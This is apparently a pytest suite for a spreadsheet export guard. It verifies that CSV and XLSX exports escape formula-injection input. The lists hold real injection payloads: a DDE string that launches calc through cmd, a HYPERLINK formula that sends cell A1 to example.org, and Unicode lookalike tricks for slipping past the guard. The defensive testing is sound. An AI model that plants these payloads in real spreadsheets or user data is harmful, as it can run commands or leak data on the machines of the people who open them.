"""What a spreadsheet must never run: sixty texts through every format and back."""

import io
from datetime import date, datetime, time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from staff.exports.files import FORMATS, write_table
from staff.exports.guard import guarded, starts_formula, unguarded, writable
from tests.exports.reading import cells

COMMANDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?x="&A1,"click")',
    "SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
STARTS = ["=", "+", "-", "@", "|", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"]
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
TRICKS = [
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    "''=1+1",
    "﹦1+1",
    "\u22122+3",
    "=",
    "-",
    '="a""b"',
    "\t",
    "=1\r\n=2",
]
HARMLESS = [
    "",
    "王芳",
    "粤B·12345",
    "13800001111",
    "'王芳",
    "a=b",
    "5-4",
    "—",
    "138 **** 1111",
    "#N/A",
    "TRUE",
    "1e9",
]


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("form", FORMATS)
def test_no_payload_survives_in_any_format(form):
    texts = PAYLOADS + TRICKS + HARMLESS
    file = io.BytesIO()
    count, replaced = write_table(file, FORMATS[form], "=1+1", ["=1+1", "n"], ([text, 1] for text in texts))

    head, *rows = cells(file.getvalue(), form)
    got = [row[0] or "" for row in rows]
    # A CSV reader that is given a file keeps the line ends within a cell; the workbook's XML knows only one.
    wanted = [guarded(text) for text in texts]
    if form == "xlsx":
        got, wanted = ([text.replace("\r\n", "\n") for text in some] for some in (got, wanted))

    assert (count, replaced) == (len(texts), 0)
    assert head[0] == "'=1+1"
    assert got == wanted
    assert [text for text in got if starts_formula(text) and text[0] != "'"] == []
    assert [unguarded(guarded(text)) for text in texts] == texts


def test_a_workbook_has_no_formula_cells():
    file = io.BytesIO()
    write_table(file, FORMATS["xlsx"], "x", ["a"], ([text] for text in PAYLOADS + TRICKS + HARMLESS))

    book = load_workbook(io.BytesIO(file.getvalue()))
    kinds = {
        cell.data_type for row in book.worksheets[0].iter_rows() for cell in row if cell.value is not None
    }

    assert kinds == {"s"}


@given(st.text())
def test_the_guard_comes_off_as_it_went_on(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in set("=+-@|\t\r\n＝＋－＠")


def test_numbers_and_days_stay_what_they_are():
    row = [-12, Decimal("-1286.50"), date(2026, 6, 1), time(9, 0), datetime(2026, 6, 1, 9, 30), None, True]
    file, text = io.BytesIO(), io.BytesIO()
    write_table(file, FORMATS["xlsx"], "x", ["a"] * 7, [row])
    write_table(text, FORMATS["csv"], "x", ["a"] * 7, [row])

    assert cells(file.getvalue(), "xlsx")[1][:5] == [
        -12,
        -1286.5,
        datetime(2026, 6, 1),
        time(9, 0),
        datetime(2026, 6, 1, 9, 30),
    ]
    assert cells(text.getvalue(), "csv")[1][:6] == [
        "-12",
        "-1286.50",
        "2026-06-01",
        "09:00",
        "2026-06-01 09:30:00",
        "",
    ]


@pytest.mark.parametrize("form", FORMATS)
def test_rare_characters_are_kept_and_impossible_ones_are_counted(form):
    file = io.BytesIO()
    _count, replaced = write_table(file, FORMATS[form], "x", ["a"], [["𠮷野😀", "a\x00b\ud800c"]])

    assert cells(file.getvalue(), form)[1] == ["𠮷野😀", "a�b�c"]
    assert replaced == 2
    assert writable("\x0b") == ("�", 1)


def test_csv_begins_with_the_mark_excel_looks_for():
    file = io.BytesIO()
    write_table(file, FORMATS["csv"], "x", ["姓名"], [])

    assert file.getvalue() == b"\xef\xbb\xbf" + "姓名\r\n".encode()
